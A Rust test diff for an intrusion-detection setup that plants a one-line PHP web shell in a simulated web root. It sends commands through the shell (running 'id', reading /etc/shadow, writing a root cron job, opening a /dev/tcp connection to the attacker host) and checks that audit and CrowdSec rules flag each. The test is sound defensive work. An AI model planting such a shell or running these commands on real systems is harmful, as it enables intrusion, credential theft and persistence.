@@ -418,3 +418,63 @@ fn tripwire_over_changes_finds_what_a_break_in_changed_once() {
 fn settle() {
     std::thread::sleep(Duration::from_millis(500));
 }
+
+/// A request with a command in it to the web shell that somebody has put among the documents.
+fn through_the_shell(from: &TestHost, to: &TestHost, command: &str) {
+    let encoded: String = command.bytes().map(|byte| format!("%{byte:02x}")).collect();
+    request(from, to, &format!("/up.php?c={encoded}"), "Connection: close");
+}
+
+#[test]
+fn a_web_shell_is_seen_by_its_system_calls() {
+    let fleet = Fleet::new(&["web1", "attacker"]);
+    let (host, attacker) = (fleet.host("web1"), fleet.host("attacker"));
+    let shop = Shop::make(&fleet);
+    shop.write("srv/www/shop.php", "<?php echo 'open since ', date('Y');");
+    let examples = repository().join("examples").display().to_string();
+    let documents = format!("from = \"{}\"", shop.path().join("srv/www").display());
+    let recipe = Recipe::of("syscalls")
+        .with("\"/etc/hyperspector/", &format!("\"{examples}/"))
+        .with("from = \"/srv/www\"", &documents);
+    up(host, &recipe);
+    host.wait_log("alpha/crowdsec", "Starting processing data");
+    let list = ["cscli", "-c", "/etc/ids/config.yaml", "alerts", "list", "-a", "-o", "raw"];
+    let alerts = || host.exec("alpha/crowdsec", &list).stdout;
+    let found = || {
+        host.exec("alpha/audit", &["/etc/ids/search"]).expect(0);
+        host.exec("alpha/audit", &["cat", "/var/log/audit-search/found.log"]).stdout
+    };
+    let written = || host.exec("alpha/audit", &["cat", "/var/log/shop/audit.log"]).stdout;
+
+    // What it is there for is no alarm.
+    wait_until("a page of PHP is served, and its calls are recorded", || {
+        request(attacker, host, "/shop.php", "Connection: close");
+        written().contains("/srv/www/shop.php")
+    });
+    let marks = found();
+    assert!(!marks.contains("secrets") && !marks.contains("connects-out"), "{marks}");
+
+    shop.write("srv/www/up.php", "<?php system($_GET['c']);");
+    let address = attacker.address();
+    let steps = [
+        ("shell", "hyperspector/web-shell", "id".to_owned()),
+        ("secrets", "hyperspector/secrets", "cat /etc/shadow".to_owned()),
+        ("cron", "hyperspector/cron", "echo '* * * * * root x' > /etc/cron.d/x".to_owned()),
+        (
+            "connects-out",
+            "hyperspector/connects-out",
+            format!("bash -c 'echo in > /dev/tcp/{address}/4444'"),
+        ),
+    ];
+    for (rule, scenario, command) in steps {
+        through_the_shell(attacker, host, &command);
+        wait_until(&format!("ausearch finds {rule}"), || {
+            found().lines().any(|line| line.starts_with(rule))
+        });
+        wait_until(&format!("CrowdSec finds {scenario}"), || alerts().contains(scenario));
+    }
+    let report = ["aureport", "--input", "/var/log/shop", "--executable", "--summary"];
+    let report = host.exec("alpha/audit", &report).text();
+    assert!(report.contains("/usr/bin/dash") && report.contains("/usr/bin/cat"), "{report}");
+    assert!(!found().contains("records-lost"), "{}", found());
+}
